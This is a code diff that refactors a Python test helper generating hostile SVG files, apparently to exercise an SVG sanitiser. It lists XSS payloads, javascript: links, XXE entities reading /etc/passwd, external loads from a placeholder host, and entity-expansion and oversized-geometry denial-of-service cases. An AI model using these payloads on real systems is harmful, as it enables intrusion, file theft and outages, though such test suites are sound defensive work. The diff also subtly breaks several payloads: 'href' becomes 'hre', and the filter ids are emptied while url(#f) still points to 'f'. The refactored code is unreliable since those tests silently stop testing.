@@ -78,85 +78,90 @@ _ENTITIES = "".join(
 )
 
 
+_INSIDE = [
+    "<script>alert(1)</script>",
+    '<script href="ELSEWHEREx.js"/>',
+    '<script xlink:href="ELSEWHEREx.js"/>',
+    '<image href="ELSEWHEREx.png" width="60" height="40"/>',
+    '<image xlink:href="ELSEWHEREx.png" width="60" height="40"/>',
+    '<image href="file:///etc/passwd" width="60" height="40"/>',
+    '<image xlink:href="/etc/passwd" width="60" height="40"/>',
+    '<image xlink:href="../../../etc/passwd" width="60" height="40"/>',
+    '<image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>',
+    '<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>',
+    '<use href="ELSEWHEREx.svg#a"/>',
+    '<use xlink:href="file:///etc/passwd#a"/>',
+    '<use href="data:image/svg+xml,&lt;svg id=&quot;a&quot;/&gt;#a"/>',
+    '<feImage href="ELSEWHEREx.png"/>',
+    '<foreignObject><iframe src="ELSEWHERE"/></foreignObject>',
+    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/>'
+    "</foreignObject>",
+    '<style>@import url("ELSEWHEREx.css");</style>',
+    '<style>@font-face{font-family:a;src:url("ELSEWHERE")}</style>',
+    '<rect width="9" height="9" fill="url(ELSEWHEREx#a)"/>',
+    '<rect width="9" height="9" style="background:url(ELSEWHERE)"/>',
+    '<rect width="9" height="9" filter="url(ELSEWHEREx#a)"/>',
+    '<rect width="9" height="9" mask="url(ELSEWHEREx#a)"/>',
+    '<rect width="9" height="9" clip-path="url(ELSEWHEREx#a)"/>',
+    '<rect width="9" height="9" onclick="alert(1)"/>',
+    '<rect width="9" height="9" onmouseover="alert(1)"/>',
+    '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>',
+    '<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>',
+    '<animate attributeName="hre" values="javascript:alert(1)"/>',
+    '<set attributeName="onload" to="alert(1)"/>',
+    '<animate onbegin="alert(1)" attributeName="x" href="ELSEWHERE"/>',
+    '<audio src="ELSEWHEREa.mp3"/>',
+    '<video src="ELSEWHEREa.mp4"/>',
+    '<iframe src="ELSEWHERE"/>',
+    '<embed src="ELSEWHERE"/>',
+    '<object data="ELSEWHERE"/>',
+    "<desc><![CDATA[<script>alert(1)</script>]]></desc>",
+    "<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>",
+    "<metadata><script>alert(1)</script></metadata>",
+    '<text font-size="1e9">a</text>',
+    '<rect width="1e30" height="1e30"/>',
+    '<g transform="scale(1e30)"><rect width="9" height="9"/></g>',
+    '<g id="a"><use href="#a"/></g>',
+    '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>',
+    '<filter id=""><feGaussianBlur stdDeviation="1e9"/></filter>'
+    '<rect width="9" height="9" filter="url(#f)"/>',
+    '<filter id=""><feTurbulence baseFrequency="1" numOctaves="999999"/></filter>'
+    '<rect width="60" height="40" filter="url(#f)"/>',
+    '<pattern id="p" width="1e-9" height="1e-9"><rect width="1"/></pattern>'
+    '<rect width="60" height="40" fill="url(#p)"/>',
+    '<path d="' + "M0 0L60 40" * 50_000 + '"/>',
+    "<g>" * 20_000 + "</g>" * 20_000,
+    '<line stroke-dasharray="1e-9" x2="60" stroke="red"/>',
+]
+_HEADS = {
+    "runs when it loads": f'{_HEAD} onload="alert(1)"/>',
+    "has a base elsewhere": f'{_HEAD} xml:base="ELSEWHERE"><use href="a"/></svg>',
+    "is huge": _HEAD.replace("60", "100000").replace("40", "100000") + "/>",
+    "has no size": '<svg xmlns="http://www.w3.org/2000/svg"/>',
+    "has a size below nothing": _HEAD.replace("60", "-60") + "/>",
+    "is broken off": f"{_HEAD}><rect",
+    "is not well formed": f"{_HEAD}><rect></svg>",
+    "swells": f"<!DOCTYPE svg [{_ENTITIES}]>{_HEAD}><text>&a9;</text></svg>",
+    "reads our files": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+    f'{_HEAD}><text y="20">&x;</text></svg>',
+    "asks elsewhere": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "ELSEWHERE">]>'
+    f"{_HEAD}><text>&x;</text></svg>",
+    "has its rules elsewhere": f'<!DOCTYPE svg SYSTEM "ELSEWHEREx.dtd">{_HEAD}/>',
+    "has its style elsewhere": f'<?xml-stylesheet href="ELSEWHERE"?>{_HEAD}/>',
+}
+
+
 def drawings(elsewhere: str) -> dict[str, bytes]:
     """Return SVG files that run, load, read or swell; each would name `elsewhere`."""
-    inside = [
-        "<script>alert(1)</script>",
-        f'<script href="{elsewhere}x.js"/>',
-        f'<script xlink:href="{elsewhere}x.js"/>',
-        f'<image href="{elsewhere}x.png" width="60" height="40"/>',
-        f'<image xlink:href="{elsewhere}x.png" width="60" height="40"/>',
-        '<image href="file:///etc/passwd" width="60" height="40"/>',
-        '<image xlink:href="/etc/passwd" width="60" height="40"/>',
-        '<image xlink:href="../../../etc/passwd" width="60" height="40"/>',
-        '<image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>',
-        '<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>',
-        f'<use href="{elsewhere}x.svg#a"/>',
-        '<use xlink:href="file:///etc/passwd#a"/>',
-        '<use href="data:image/svg+xml,&lt;svg id=&quot;a&quot;/&gt;#a"/>',
-        f'<feImage href="{elsewhere}x.png"/>',
-        f'<foreignObject><iframe src="{elsewhere}"/></foreignObject>',
-        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/>'
-        "</foreignObject>",
-        f'<style>@import url("{elsewhere}x.css");</style>',
-        f'<style>@font-face{{font-family:a;src:url("{elsewhere}f")}}</style>',
-        f'<rect width="9" height="9" fill="url({elsewhere}x#a)"/>',
-        f'<rect width="9" height="9" style="background:url({elsewhere})"/>',
-        f'<rect width="9" height="9" filter="url({elsewhere}x#a)"/>',
-        f'<rect width="9" height="9" mask="url({elsewhere}x#a)"/>',
-        f'<rect width="9" height="9" clip-path="url({elsewhere}x#a)"/>',
-        '<rect width="9" height="9" onclick="alert(1)"/>',
-        '<rect width="9" height="9" onmouseover="alert(1)"/>',
-        '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>',
-        '<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>',
-        '<animate attributeName="href" values="javascript:alert(1)"/>',
-        '<set attributeName="onload" to="alert(1)"/>',
-        f'<animate onbegin="alert(1)" attributeName="x" href="{elsewhere}"/>',
-        f'<audio src="{elsewhere}a.mp3"/>',
-        f'<video src="{elsewhere}a.mp4"/>',
-        f'<iframe src="{elsewhere}"/>',
-        f'<embed src="{elsewhere}"/>',
-        f'<object data="{elsewhere}"/>',
-        "<desc><![CDATA[<script>alert(1)</script>]]></desc>",
-        "<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>",
-        "<metadata><script>alert(1)</script></metadata>",
-        '<text font-size="1e9">a</text>',
-        '<rect width="1e30" height="1e30"/>',
-        '<g transform="scale(1e30)"><rect width="9" height="9"/></g>',
-        '<g id="a"><use href="#a"/></g>',
-        '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>',
-        '<filter id="f"><feGaussianBlur stdDeviation="1e9"/></filter>'
-        '<rect width="9" height="9" filter="url(#f)"/>',
-        '<filter id="f"><feTurbulence baseFrequency="1" numOctaves="999999"/></filter>'
-        '<rect width="60" height="40" filter="url(#f)"/>',
-        '<pattern id="p" width="1e-9" height="1e-9"><rect width="1"/></pattern>'
-        '<rect width="60" height="40" fill="url(#p)"/>',
-        '<path d="' + "M0 0L60 40" * 50_000 + '"/>',
-        "<g>" * 20_000 + "</g>" * 20_000,
-        '<line stroke-dasharray="1e-9" x2="60" stroke="red"/>',
-    ]
-    heads = {
-        "runs when it loads": f'{_HEAD} onload="alert(1)"/>',
-        "has a base elsewhere": f'{_HEAD} xml:base="{elsewhere}"><use href="a"/></svg>',
-        "is huge": _HEAD.replace("60", "100000").replace("40", "100000") + "/>",
-        "has no size": '<svg xmlns="http://www.w3.org/2000/svg"/>',
-        "has a size below nothing": _HEAD.replace("60", "-60") + "/>",
-        "is broken off": f"{_HEAD}><rect",
-        "is not well formed": f"{_HEAD}><rect></svg>",
-        "swells": f"<!DOCTYPE svg [{_ENTITIES}]>{_HEAD}><text>&a9;</text></svg>",
-        "reads our files": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
-        f'{_HEAD}><text y="20">&x;</text></svg>',
-        "asks elsewhere": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{elsewhere}">]>'
-        f"{_HEAD}><text>&x;</text></svg>",
-        "has its rules elsewhere": f'<!DOCTYPE svg SYSTEM "{elsewhere}x.dtd">{_HEAD}/>',
-        "has its style elsewhere": f'<?xml-stylesheet href="{elsewhere}"?>{_HEAD}/>',
-    }
     found = {
         f"drawing {number}": f"{_HEAD}{_LINK}>{words}</svg>"
-        for number, words in enumerate(inside)
+        for number, words in enumerate(_INSIDE)
     }
     declared = '<?xml version="1.0" encoding="UTF-8"?>\n'
-    return {name: (declared + text).encode() for name, text in (found | heads).items()}
+    return {
+        name: (declared + text.replace("ELSEWHERE", elsewhere)).encode()
+        for name, text in (found | _HEADS).items()
+    }
 
 
 HOSTILE_NAMES = (
